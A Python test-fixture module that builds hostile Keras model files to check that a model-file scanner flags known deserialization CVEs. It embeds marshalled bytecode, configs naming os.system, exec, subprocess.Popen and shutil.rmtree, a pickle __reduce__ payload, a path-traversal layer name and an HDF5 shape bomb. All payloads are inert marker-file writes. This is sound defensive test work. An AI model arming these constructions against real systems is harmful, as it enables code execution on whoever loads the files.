"""Hostile model files that name or carry code, built with zipfile, json and h5py.

One builder for tests/test_hostile_configs.py, bench/peers.py and bench/old_keras.py.
Payloads are inert: run, they create a file or folder under `markers/` and nothing
else. The files start from a model every Keras 3 release (3.0 onwards) loads, so a
release that does not run a payload has really met it rather than failed earlier.

Each `Hostile` says what kerascheck must answer: an `unsafe-code` error naming its CVE,
or (`refusal`) a one-line exit 2 with that text.
"""
from __future__ import annotations

import codecs
import copy
import json
import marshal
import os
import types
import zipfile
from dataclasses import dataclass, field

# Keys newer Keras releases write that older ones reject: the base model drops them.
_NEWER_KEYS = {"quantization_config", "input_axes", "output_axes", "lora_rank", "lora_alpha", "optional",
               "loss_scale_factor", "gradient_accumulation_steps"}


@dataclass
class Hostile:
    name: str  # file name
    path: str
    what: str  # one line for tables
    cve: str | None = None  # the CVE the unsafe-code error must name; None: an error without one
    marker: str | None = None  # created if the payload runs; None where it cannot run by itself
    refusal: str | None = None  # exit 2 with this text instead of a finding
    all_tiers: bool = False  # the tests check it without --static (Keras must never see it)
    env: dict = field(default_factory=dict)  # for the loader: where a planted module lives

    @property
    def fmt(self) -> str:
        return "h5" if self.path.endswith(".h5") else "keras"


def bytecode(source: str) -> str:
    """Base64 of a marshalled code object, the way Keras writes a Lambda (func_dump)."""
    code = next(c for c in compile(source, "<payload>", "eval").co_consts if isinstance(c, types.CodeType))
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def lambda_object(marker: str, kind: str = "call") -> dict:
    """A Keras 3 `__lambda__` object whose code creates `marker` when called."""
    sources = {
        "call": f"lambda t, *a, **k: (open({marker!r}, 'w').close(), t)[1]",
        "shape": f"lambda s, *a, **k: (open({marker!r}, 'w').close(), s)[1]",
        "mask": f"lambda t, m=None, *a, **k: (open({marker!r}, 'w').close(), None)[1]",
    }
    return {"class_name": "__lambda__", "config": {"code": bytecode(sources[kind]), "defaults": None,
                                                   "closure": None}}


def _keras_tensor(source: str) -> dict:
    return {"class_name": "__keras_tensor__",
            "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [source, 0, 0]}}


def _layer(class_name: str, name: str, config: dict, source: str | None, module: str = "keras.layers") -> dict:
    entry = {"module": module, "class_name": class_name, "config": {"name": name, **config},
             "registered_name": None, "name": name, "inbound_nodes": []}
    if source:
        entry["inbound_nodes"] = [{"args": [_keras_tensor(source)], "kwargs": {}}]
    return entry


def _call(module: str, class_name: str, name: str, args=(), kwargs=None) -> dict:
    """A config entry in place of a layer: the loader resolves it and calls what it gets with these arguments."""
    return {"module": module, "class_name": class_name, "config": {"name": name}, "registered_name": None,
            "name": name, "inbound_nodes": [{"args": list(args), "kwargs": dict(kwargs or {})}]}


def _portable(node):
    if isinstance(node, dict):
        for key in list(node):
            if key in _NEWER_KEYS:
                del node[key]
        if isinstance(node.get("dtype"), dict) and node["dtype"].get("class_name") == "DTypePolicy":
            node["dtype"] = node["dtype"]["config"]["name"]
        for key in ("input_layers", "output_layers"):
            value = node.get(key)
            if isinstance(value, list) and len(value) == 3 and isinstance(value[0], str):
                node[key] = [value]  # Keras before 3.4 reads only the list-of-lists form
        for value in node.values():
            _portable(value)
    elif isinstance(node, list):
        for value in node:
            _portable(value)
    return node


class _Builder:
    def __init__(self, folder: str):
        import keras
        from keras import layers

        self.folder = folder
        self.markers = os.path.join(folder, "markers")
        os.makedirs(self.markers, exist_ok=True)
        inp = keras.Input((4,), name="x")
        model = keras.Model(inp, layers.Dense(2, name="dense")(layers.Dense(4, name="hidden")(inp)))
        model.compile(optimizer="adam", loss="mse")
        self.base_keras = os.path.join(folder, "_base.keras")
        self.base_h5 = os.path.join(folder, "_base.h5")
        model.save(self.base_keras)
        model.save(self.base_h5)
        with zipfile.ZipFile(self.base_keras) as zf:
            self.members = {i.filename: zf.read(i) for i in zf.infolist()}
        self.config = _portable(json.loads(self.members["config.json"]))
        import h5py

        with h5py.File(self.base_h5, "r") as f:
            self.h5_config = _portable(json.loads(f.attrs["model_config"]))
            self.h5_training = _portable(json.loads(f.attrs["training_config"]))
        self.h5_training["loss"] = "mean_squared_error"  # releases before 3.9 do not resolve "mse" here
        # The same model, made loadable by every release: what the payloads are added to.
        self.clean = [self.keras_file("_clean.keras", lambda cfg: None), self.h5_file("_clean.h5")]

    def marker(self, name: str) -> str:
        return os.path.join(self.markers, name)

    def keras_file(self, name: str, edit) -> str:
        cfg = copy.deepcopy(self.config)
        edit(cfg)
        path = os.path.join(self.folder, name)
        with zipfile.ZipFile(path, "w") as zf:
            for member, data in self.members.items():
                zf.writestr(member, json.dumps(cfg) if member == "config.json" else data)
        return path

    def h5_file(self, name: str, edit_model=None, edit_training=None) -> str:
        import shutil

        import h5py

        path = os.path.join(self.folder, name)
        shutil.copyfile(self.base_h5, path)
        model, training = copy.deepcopy(self.h5_config), copy.deepcopy(self.h5_training)
        if edit_model:
            edit_model(model)
        if edit_training:
            edit_training(training)
        with h5py.File(path, "a") as f:
            f.attrs["model_config"] = json.dumps(model)
            f.attrs["training_config"] = json.dumps(training)
        return path


def _layers(cfg) -> list:
    return cfg["config"]["layers"]


def _find(cfg, name) -> dict:
    return next(entry for entry in _layers(cfg) if entry["config"].get("name") == name)


def _between(entry: dict, keras3: bool = True):
    """Edit: put `entry` between 'hidden' and 'dense', so that the model calls it on load."""
    def edit(cfg):
        items = _layers(cfg)
        items.insert(2, entry)
        dense = _find(cfg, "dense")
        if keras3:
            dense["inbound_nodes"] = [{"args": [_keras_tensor(entry["name"])], "kwargs": {}}]
        else:
            dense["inbound_nodes"] = [[[entry["name"], 0, 0, {}]]]
    return edit


def _before(*entries):
    """Edit: put `entries` first in the layer list (called on load in that order, before any layer)."""
    def edit(cfg):
        _layers(cfg)[1:1] = list(entries)
    return edit


def _dense_field(key: str, value):
    def edit(cfg):
        _find(cfg, "dense")["config"][key] = value
    return edit


def _compile(key: str, value):
    def edit(cfg):
        cfg.setdefault("compile_config", {})[key] = value
    return edit


def _fn(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


# The files build_corpus writes, in order (tests parametrize over them before building).
NAMES = [
    "lambda_function.keras", "lambda_output_shape.keras", "lambda_mask.keras", "lambda_arguments.keras",
    "bytecode_activation.keras", "bytecode_loss.keras", "bytecode_string.keras", "lambda_wrapped.keras",
    "enable_unsafe_class.keras", "enable_unsafe_nested.keras", "enable_unsafe_function.keras",
    "get_file_class.keras", "get_file_src_class.keras", "get_file_initializer.keras", "load_model_class.keras",
    "python_call.keras", "python_exec_call.keras", "python_initializer.keras", "python_activation.keras",
    "python_regularizer.keras", "python_loss.keras", "python_metric.keras", "python_optimizer.keras",
    "python_optimizer_class.keras", "gadget_registered_name.keras", "planted_module.keras", "planted_call.keras",
    "lambda_function.h5", "keras2_lambda.h5", "keras2_output_shape.h5", "keras2_module.h5",
    "enable_unsafe_class.h5", "python_call.h5", "training_loss_bytecode.h5", "training_metric_module.h5",
    "training_optimizer_gadget.h5",
]


def build_corpus(folder: str, clean: list | None = None) -> list[Hostile]:
    """Write every hostile file under `folder`; returns what each must give.

    `clean`, if given, receives the paths of the payload-free base files (.keras, .h5).
    """
    b = _Builder(folder)
    if clean is not None:
        clean.extend(b.clean)
    m = b.marker
    out: list[Hostile] = []

    def add(name, what, path, **kw):
        out.append(Hostile(name=name, path=path, what=what, **kw))

    relu = _fn("builtins", "relu")  # Keras's own way of writing keras.activations.relu

    # --- bytecode, in every field of a Lambda and elsewhere
    add("lambda_function.keras", "Lambda bytecode in `function`", b.keras_file(
        "lambda_function.keras", _between(_layer("Lambda", "payload", {
            "function": lambda_object(m("lambda_function")), "arguments": {}}, "hidden"))),
        cve="CVE-2024-3660", marker=m("lambda_function"), all_tiers=True)
    add("lambda_output_shape.keras", "Lambda of keras relu with bytecode in `output_shape`", b.keras_file(
        "lambda_output_shape.keras", _between(_layer("Lambda", "payload", {
            "function": relu, "output_shape": lambda_object(m("lambda_output_shape"), "shape"),
            "arguments": {}}, "hidden"))),
        cve="CVE-2024-3660", marker=m("lambda_output_shape"), all_tiers=True)
    add("lambda_mask.keras", "Lambda of keras relu with bytecode in `mask`", b.keras_file(
        "lambda_mask.keras", _between(_layer("Lambda", "payload", {
            "function": relu, "mask": lambda_object(m("lambda_mask"), "mask"), "arguments": {}}, "hidden"))),
        cve="CVE-2024-3660", marker=m("lambda_mask"))
    add("lambda_arguments.keras", "Lambda of keras relu with bytecode in `arguments`", b.keras_file(
        "lambda_arguments.keras", _between(_layer("Lambda", "payload", {
            "function": relu, "arguments": {"hook": lambda_object(m("lambda_arguments"))}}, "hidden"))),
        cve="CVE-2024-3660", marker=m("lambda_arguments"))
    add("bytecode_activation.keras", "bytecode as a Dense layer's activation", b.keras_file(
        "bytecode_activation.keras", _dense_field("activation", lambda_object(m("bytecode_activation")))),
        cve="CVE-2024-3660", marker=m("bytecode_activation"))
    add("bytecode_loss.keras", "bytecode as the compiled loss", b.keras_file(
        "bytecode_loss.keras", _compile("loss", lambda_object(m("bytecode_loss")))),
        cve="CVE-2024-3660", marker=m("bytecode_loss"))
    add("bytecode_string.keras", "a bare marshalled-bytecode string in a Dense config field", b.keras_file(
        "bytecode_string.keras", _dense_field("name_scope", bytecode(
            f"lambda t: (open({m('bytecode_string')!r}, 'w').close(), t)[1]"))),
        cve="CVE-2024-3660")
    add("lambda_wrapped.keras", "Lambda bytecode inside TimeDistributed", b.keras_file(
        "lambda_wrapped.keras", _between(_layer("TimeDistributed", "payload", {"layer": {
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "inner", "function": lambda_object(m("lambda_wrapped")), "arguments": {}}}},
            "hidden"))),
        cve="CVE-2024-3660", marker=m("lambda_wrapped"))

    # --- Keras gadgets, in class form (called with the arguments the file gives) and nested
    inner = {"module": "keras", "class_name": "Sequential", "config": {"name": "inner", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 1], "name": "i"}},
        {"module": "keras.layers", "class_name": "Lambda",
         "config": {"name": "l", "function": lambda_object(m("enable_unsafe_class"))}}]}}
    chain = (_call("keras.config", "enable_unsafe_deserialization", "switch"),
             _call("keras.models", "model_from_json", "reload", kwargs={"json_string": json.dumps(inner)}))
    add("enable_unsafe_class.keras", "keras.config.enable_unsafe_deserialization in class form, then a "
        "model_from_json call whose model has bytecode", b.keras_file("enable_unsafe_class.keras", _before(*chain)),
        cve="CVE-2025-9906", marker=m("enable_unsafe_class"), all_tiers=True)
    add("enable_unsafe_nested.keras", "enable_unsafe_deserialization in class form as a Dense initializer",
        b.keras_file("enable_unsafe_nested.keras", _dense_field("kernel_initializer", {
            "module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {},
            "registered_name": None})),
        cve="CVE-2025-9906")
    add("enable_unsafe_function.keras", "enable_unsafe_deserialization as an Activation's function",
        b.keras_file("enable_unsafe_function.keras", _between(_layer("Activation", "switch", {
            "activation": _fn("keras.config", "enable_unsafe_deserialization")}, "hidden"))),
        cve="CVE-2025-9906")
    src = os.path.join(folder, "download_source.txt")
    with open(src, "w") as fh:
        fh.write("inert\n")
    os.makedirs(m("get_file_class"), exist_ok=True)
    os.makedirs(m("get_file_src_class"), exist_ok=True)
    fetch = {"fname": "kc_download", "origin": f"file://{src}", "cache_subdir": "."}
    add("get_file_class.keras", "keras.utils.get_file in class form, called with a URL", b.keras_file(
        "get_file_class.keras", _before(_call("keras.utils", "get_file", "fetch",
                                              kwargs={**fetch, "cache_dir": m("get_file_class")}))),
        cve="CVE-2025-8747", marker=os.path.join(m("get_file_class"), "kc_download"), all_tiers=True)
    add("get_file_src_class.keras", "keras.src.utils.file_utils.get_file in class form", b.keras_file(
        "get_file_src_class.keras", _before(_call("keras.src.utils.file_utils", "get_file", "fetch",
                                                  kwargs={**fetch, "cache_dir": m("get_file_src_class")}))),
        cve="CVE-2025-8747", marker=os.path.join(m("get_file_src_class"), "kc_download"))
    add("get_file_initializer.keras", "keras.utils.get_file as a kernel initializer", b.keras_file(
        "get_file_initializer.keras", _dense_field("kernel_initializer", _fn("keras.utils", "get_file"))),
        cve="CVE-2025-8747")
    add("load_model_class.keras", "keras.saving.load_model in class form (loads another file)", b.keras_file(
        "load_model_class.keras", _before(_call("keras.saving", "load_model", "reload",
                                                kwargs={"filepath": os.path.join(folder, "lambda_function.keras"),
                                                        "safe_mode": False}))),
        marker=m("lambda_function"))

    # --- Python modules, wherever a config can name them
    add("python_call.keras", "os.makedirs in class form, called with a path", b.keras_file(
        "python_call.keras", _before(_call("os", "makedirs", "mk", args=[m("python_call")]))),
        cve="CVE-2025-1550", marker=m("python_call"), all_tiers=True)
    add("python_exec_call.keras", "builtins.exec in class form, called with code", b.keras_file(
        "python_exec_call.keras", _before(_call("builtins", "exec", "ex",
                                                args=[f"open({m('python_exec_call')!r}, 'w').close()"]))),
        cve="CVE-2025-1550", marker=m("python_exec_call"))
    add("python_initializer.keras", "os.makedirs as a kernel initializer", b.keras_file(
        "python_initializer.keras", _dense_field("kernel_initializer", _fn("os", "makedirs"))),
        cve="CVE-2025-1550")
    add("python_activation.keras", "subprocess.getoutput as an activation", b.keras_file(
        "python_activation.keras", _dense_field("activation", _fn("subprocess", "getoutput"))),
        cve="CVE-2025-1550")
    add("python_regularizer.keras", "shutil.rmtree in class form as a kernel regularizer", b.keras_file(
        "python_regularizer.keras", _dense_field("kernel_regularizer", {
            "module": "shutil", "class_name": "rmtree", "config": {}, "registered_name": None})),
        cve="CVE-2025-1550")
    add("python_loss.keras", "builtins.exec as the compiled loss", b.keras_file(
        "python_loss.keras", _compile("loss", _fn("builtins", "exec"))), cve="CVE-2025-1550")
    add("python_metric.keras", "builtins.eval as a metric", b.keras_file(
        "python_metric.keras", _compile("metrics", [_fn("builtins", "eval")])), cve="CVE-2025-1550")
    add("python_optimizer.keras", "os.system as the optimizer's learning-rate schedule", b.keras_file(
        "python_optimizer.keras", _compile("optimizer", {
            "module": "keras.optimizers", "class_name": "Adam", "registered_name": None,
            "config": {"learning_rate": _fn("os", "system")}})), cve="CVE-2025-1550")
    add("python_optimizer_class.keras", "subprocess.Popen in class form as the optimizer", b.keras_file(
        "python_optimizer_class.keras", _compile("optimizer", {
            "module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]},
            "registered_name": None})), cve="CVE-2025-1550")
    add("gadget_registered_name.keras", "a constraint whose registered_name names keras.utils.get_file",
        b.keras_file("gadget_registered_name.keras", _dense_field("kernel_constraint", {
            "module": "keras.utils", "class_name": "MaxNorm", "config": {}, "registered_name": "get_file"})),
        cve="CVE-2025-8747")
    payload_dir = os.path.join(folder, "planted")
    os.makedirs(payload_dir, exist_ok=True)
    with open(os.path.join(payload_dir, "kc_payload.py"), "w") as fh:
        fh.write(f"open({m('planted_module')!r}, 'w').close()\n\ndef f(x):\n    return x\n")
    add("planted_module.keras", "a module that is not Python's nor Keras's (stands for your own code)",
        b.keras_file("planted_module.keras", _dense_field("activation", _fn("kc_payload", "f"))),
        marker=m("planted_module"), env={"PYTHONPATH": payload_dir},
        refusal="needs the custom function 'f' to load (the file says it comes from module 'kc_payload')")
    with open(os.path.join(payload_dir, "kc_payload_call.py"), "w") as fh:
        fh.write(f"open({m('planted_call')!r}, 'w').close()\n\ndef f(*args, **kwargs):\n    return None\n")
    add("planted_call.keras", "the same, in class form in place of a layer", b.keras_file(
        "planted_call.keras", _before(_call("kc_payload_call", "f", "own"))),
        marker=m("planted_call"), env={"PYTHONPATH": payload_dir},
        refusal="needs the custom class 'f' to load (the file says it comes from module 'kc_payload_call')")

    # --- legacy .h5: model_config and training_config
    add("lambda_function.h5", "Lambda bytecode in an .h5 model_config", b.h5_file(
        "lambda_function.h5", _between(_h5(_layer("Lambda", "payload", {
            "function": lambda_object(m("lambda_function_h5")), "arguments": {}}, "hidden")))),
        cve="CVE-2024-3660", marker=m("lambda_function_h5"), all_tiers=True)
    k2 = {"name": "payload", "function": [bytecode(f"lambda t: (open({m('keras2_lambda_h5')!r}, 'w').close(), t)[1]"),
                                          None, None],
          "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
          "output_shape_module": None, "arguments": {}}
    add("keras2_lambda.h5", "Keras 2 Lambda (`function_type: lambda`) in an .h5 model_config", b.h5_file(
        "keras2_lambda.h5", _between({"class_name": "Lambda", "config": k2, "name": "payload",
                                      "inbound_nodes": [[["hidden", 0, 0, {}]]]}, keras3=False)),
        cve="CVE-2024-3660", marker=m("keras2_lambda_h5"))
    k2_shape = {**k2, "function": "relu", "function_type": "function", "module": "keras.activations",
                "output_shape": [bytecode(f"lambda s: (open({m('keras2_shape_h5')!r}, 'w').close(), s)[1]"),
                                 None, None], "output_shape_type": "lambda"}
    add("keras2_output_shape.h5", "Keras 2 Lambda with bytecode in `output_shape` (.h5)", b.h5_file(
        "keras2_output_shape.h5", _between({"class_name": "Lambda", "config": k2_shape, "name": "payload",
                                            "inbound_nodes": [[["hidden", 0, 0, {}]]]}, keras3=False)),
        cve="CVE-2024-3660", marker=m("keras2_shape_h5"))
    k2_module = {**k2, "function": "system", "function_type": "function", "module": "os"}
    add("keras2_module.h5", "Keras 2 Lambda calling os.system (.h5)", b.h5_file(
        "keras2_module.h5", _between({"class_name": "Lambda", "config": k2_module, "name": "payload",
                                      "inbound_nodes": [[["hidden", 0, 0, {}]]]}, keras3=False)),
        cve="CVE-2025-1550")
    add("enable_unsafe_class.h5", "the enable_unsafe_deserialization chain in an .h5 model_config",
        b.h5_file("enable_unsafe_class.h5", _before(*chain)), cve="CVE-2025-9906", marker=m("enable_unsafe_class"))
    add("python_call.h5", "os.makedirs in class form in an .h5 model_config", b.h5_file(
        "python_call.h5", _before(_call("os", "makedirs", "mk", args=[m("python_call_h5")]))),
        cve="CVE-2025-1550", marker=m("python_call_h5"), all_tiers=True)
    add("training_loss_bytecode.h5", "bytecode as the loss in an .h5 training_config", b.h5_file(
        "training_loss_bytecode.h5", edit_training=lambda t: t.update(loss=lambda_object(m("training_loss_h5")))),
        cve="CVE-2024-3660", marker=m("training_loss_h5"))
    add("training_metric_module.h5", "builtins.exec as a metric in an .h5 training_config", b.h5_file(
        "training_metric_module.h5", edit_training=lambda t: t.update(metrics=[_fn("builtins", "exec")])),
        cve="CVE-2025-1550")
    add("training_optimizer_gadget.h5", "enable_unsafe_deserialization as the optimizer in an .h5 "
        "training_config", b.h5_file("training_optimizer_gadget.h5", edit_training=lambda t: t.update(
            optimizer_config={"module": "keras.config", "class_name": "enable_unsafe_deserialization",
                              "config": {}})),
        cve="CVE-2025-9906")
    return out


def _h5(entry: dict) -> dict:
    """A layer entry as Keras 3 writes it into an .h5 model_config (no module keys at layer level)."""
    entry = dict(entry)
    entry.pop("module", None)
    entry.pop("registered_name", None)
    return entry


def build_container_corpus(folder: str) -> list[Hostile]:
    """The other hostile shapes of tests/test_hostile.py (layers, names, archive and HDF5 structure), for the benches.

    tests/test_hostile.py checks each of them with all tiers; here they are rebuilt so that
    bench/peers.py can put every tool in front of the whole corpus.
    """
    import base64
    import pickle

    import h5py
    import numpy as np

    b = _Builder(folder)
    out: list[Hostile] = []

    class _Marker:
        def __init__(self, path):
            self.path = path

        def __reduce__(self):
            return (open, (self.path, "w"))

    def layer_as(class_name, config):
        def edit(cfg):
            entry = _find(cfg, "dense")
            entry["class_name"] = class_name
            entry["config"] = {"name": "dense", **config}
        return edit

    pickled = base64.b64encode(pickle.dumps(_Marker(b.marker("torch")))).decode()
    out.append(Hostile("torch_wrapper.keras", b.keras_file("torch_wrapper.keras", layer_as(
        "TorchModuleWrapper", {"module": pickled})), "TorchModuleWrapper with a pickled module",
        cve="CVE-2025-49655", marker=b.marker("torch")))
    out.append(Hostile("tfsm_layer.keras", b.keras_file("tfsm_layer.keras", layer_as(
        "TFSMLayer", {"filepath": os.path.join(folder, "attacker_saved_model")})), "TFSMLayer loading a SavedModel",
        cve="CVE-2026-1462"))
    secret = os.path.join(folder, "secret.txt")
    with open(secret, "w") as fh:
        fh.write("kc-secret-token-1234\n")
    out.append(Hostile("lookup_path.keras", b.keras_file("lookup_path.keras", layer_as(
        "StringLookup", {"vocabulary": secret})), "StringLookup reading its vocabulary from a local path",
        cve="CVE-2025-12058"))

    def traversal(cfg):
        entry = _find(cfg, "hidden")
        entry["config"]["name"] = entry["name"] = "../../kc_escape"
        for other in _layers(cfg):
            text = json.dumps(other.get("inbound_nodes", []))
            other["inbound_nodes"] = json.loads(text.replace('"hidden"', '"../../kc_escape"'))
    out.append(Hostile("traversal_name.keras", b.keras_file("traversal_name.keras", traversal),
                       "a layer name with '../'", cve="CVE-2026-12479"))

    def weights_edit(name, edit):
        import tempfile

        with tempfile.TemporaryDirectory() as tmp:
            h5path = os.path.join(tmp, "w.h5")
            with open(h5path, "wb") as fh:
                fh.write(b.members["model.weights.h5"])
            with h5py.File(h5path, "a") as f:
                edit(f)
            with open(h5path, "rb") as fh:
                data = fh.read()
        path = os.path.join(folder, name)
        with zipfile.ZipFile(path, "w") as zf:
            for member, content in b.members.items():
                zf.writestr(member, data if member == "model.weights.h5" else
                            (json.dumps(b.config) if member == "config.json" else content))
        return path

    def bomb(f):
        del f["layers/dense/vars/0"]
        f.create_dataset("layers/dense/vars/0", shape=(10**6, 10**6), dtype="float32")
    out.append(Hostile("shape_bomb.keras", weights_edit("shape_bomb.keras", bomb), "HDF5 dataset declaring 4 TB",
                       cve="CVE-2026-0897", refusal="shape bomb"))
    leaked = os.path.join(folder, "secret.bin")
    np.arange(8, dtype="float32").tofile(leaked)

    def external(f):
        del f["layers/dense/vars/0"]
        f.create_dataset("layers/dense/vars/0", shape=(4, 2), dtype="float32", external=[(leaked, 0, 32)])
    out.append(Hostile("external_storage.keras", weights_edit("external_storage.keras", external),
                       "HDF5 dataset stored in a local file", cve="CVE-2026-1669",
                       refusal="keeps its data in an external file"))
    path = os.path.join(folder, "extra_member.keras")
    with zipfile.ZipFile(path, "w") as zf:
        for member, content in b.members.items():
            zf.writestr(member, json.dumps(b.config) if member == "config.json" else content)
        zf.writestr("payload.py", f"open({b.marker('extra_member')!r}, 'w').close()\n")
    out.append(Hostile("extra_member.keras", path, "an archive member Keras never writes (a .py file)"))
    return out
